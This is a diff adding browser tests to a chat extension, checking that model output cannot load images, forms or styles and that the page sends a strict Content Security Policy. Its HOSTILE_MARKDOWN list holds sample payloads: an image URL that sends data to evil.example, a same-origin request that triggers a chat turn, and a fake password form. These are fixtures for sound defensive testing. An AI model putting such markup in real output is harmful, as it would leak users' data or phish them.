@@ -17,7 +17,9 @@ import httpx
 import pytest
 from playwright.async_api import Browser, Page, async_playwright, expect
 from server_helpers import *  # noqa: F403
-from server_helpers import ALICE, SCRIPT, auth, error_of, session_providers, sse_events
+from server_helpers import ALICE, SCRIPT, ToolCall, auth, error_of, server_config, session_providers, sse_events
+
+from streamchat.notebook.render import render_markdown
 
 CHROMIUM = os.environ.get("STREAMCHAT_CHROMIUM", "/usr/bin/chromium")
 
@@ -49,10 +51,17 @@ def requested() -> list[str]:
 
 
 @pytest.fixture
-async def page(browser: Browser, base_url: str, requested: list[str]) -> AsyncIterator[Page]:
+def console() -> list[str]:
+    """Every console message of the `page`."""
+    return []
+
+
+@pytest.fixture
+async def page(browser: Browser, base_url: str, requested: list[str], console: list[str]) -> AsyncIterator[Page]:
     """The chat page, logged in as alice (the token in the URL sets Jupyter's login cookie)."""
     context = await browser.new_context()
     page = await context.new_page()
+    page.on("console", lambda message: console.append(message.text))
     await page.goto(f"{base_url}streamchat/?token={ALICE}")
     await expect(page.locator("#status")).to_have_text("connected")
     page.on("request", lambda request: requested.append(request.url))
@@ -110,3 +119,90 @@ async def test_an_image_in_model_output_does_not_start_a_turn_in_the_page(
     await images_settled(page)
     assert await service_of(jp_serverapp).store.get("pwn") is None
     assert len(session_providers()) == 1  # only the page's own session ever reached the model
+
+
+# -- item 4: no images, forms or styles from model output; a strict CSP on the page ----------------------
+
+HOSTILE_MARKDOWN = [
+    "![leak](https://evil.example/collect?d=secret)",
+    "![same](/api/streamchat/sessions/pwn/stream?message=pwned)",
+    '<img src="/api/streamchat/tools" alt="raw">',
+    '<img src="https://evil.example/raw.png">',
+    "<style>.assistant { display: none }</style>",
+    '<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>',
+    '<p style="position: fixed; inset: 0">cover</p>',
+]
+
+
+@pytest.mark.parametrize("attack", HOSTILE_MARKDOWN)
+def test_the_notebook_renderer_drops_images_forms_inputs_and_styles(attack: str) -> None:
+    html = render_markdown(f"Look: {attack} done")
+    for bad in ("<img", "src=", "<style", "<form", "<input", "<button", "style=", "evil.example"):
+        assert bad not in html, html
+    assert "done" in html
+
+
+def test_the_notebook_renderer_keeps_https_images_only_when_asked() -> None:
+    text = '![ok](https://images.example/a.png) ![same](/api/x) <img src="api/y"> <img src="http://plain.example/z">'
+    assert render_markdown(text) == "<p>ok same  </p>\n"  # a Markdown image leaves its alt text
+    html = render_markdown(text, remote_images=True)
+    assert '<img src="https://images.example/a.png" alt="ok">' in html
+    assert "/api/" not in html and "plain.example" not in html and html.count("src=") == 1
+
+
+async def test_the_page_answers_with_a_strict_content_security_policy(base_url: str) -> None:
+    async with httpx.AsyncClient(base_url=base_url, headers=auth(ALICE)) as client:
+        for route in ("streamchat/", "streamchat/static/chat.js", "streamchat/static/chat.css"):
+            response = await client.get(route)
+            assert response.status_code == 200, route
+            policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
+            assert policy["default-src"] == "'none'" and policy["img-src"] == "'none'", policy
+            assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'", policy
+            assert policy["form-action"] == "'none'" and policy["base-uri"] == "'none'", policy
+        assert "<script>" not in (await client.get("streamchat/")).text  # no inline script needs allowing
+
+
+async def test_the_page_works_under_its_policy(page: Page, console: list[str]) -> None:
+    SCRIPT.turns = [
+        ["Counting. ", ToolCall("count_to", {"n": 2}, call_id="c")],
+        ["Counted **2**. ![a & <b>](https://x.example/a.png)"],
+    ]
+    await ask(page, "count")
+    answer = page.locator(".assistant").last
+    await expect(answer.locator(".content strong")).to_have_text("2")
+    await expect(answer.locator(".content")).to_have_text("Counting. Counted 2. a & <b>")  # alt text, escaped once
+    fill = answer.locator('.tool-card[data-call-id="c"] .fill')
+    assert await fill.evaluate("(node) => node.getBoundingClientRect().width > 0")  # styles set from the script apply
+    assert await page.locator("header").evaluate("(node) => getComputedStyle(node).display") == "flex"  # chat.css
+    assert [line for line in console if "Content Security Policy" in line] == []
+
+
+async def test_images_in_model_output_make_no_request_from_the_page(page: Page, requested: list[str]) -> None:
+    SCRIPT.turns = [["Look:\n\n" + "\n\n".join(HOSTILE_MARKDOWN) + "\n\ndone"]]
+    await ask(page, "show me")
+    content = page.locator(".assistant .content")
+    await expect(content).to_contain_text("done")
+    await images_settled(page)
+    assert requested == []
+    await expect(content).to_contain_text("leak")  # an image shows its alt text
+    for tag in ("img", "style", "form", "input", "button", "[style]"):
+        assert await content.locator(tag).count() == 0, tag
+    assert await page.locator(".assistant").is_visible()
+
+
+class TestRemoteImagesOptIn:
+    @pytest.fixture
+    def jp_server_config(self) -> dict[str, Any]:
+        return server_config(remote_images=True)
+
+    async def test_https_images_load_and_same_origin_ones_still_do_not(
+        self, page: Page, requested: list[str], base_url: str
+    ) -> None:
+        await page.route("https://evil.example/**", lambda route: route.abort())  # offline: only see the request
+        SCRIPT.turns = [["Look:\n\n" + "\n\n".join(HOSTILE_MARKDOWN) + "\n\ndone"]]
+        await ask(page, "show me")
+        await images_settled(page)
+        assert sorted(requested) == ["https://evil.example/collect?d=secret", "https://evil.example/raw.png"]
+        async with httpx.AsyncClient(base_url=base_url, headers=auth(ALICE)) as client:
+            policy = (await client.get("streamchat/")).headers["content-security-policy"]
+        assert "img-src https:" in policy
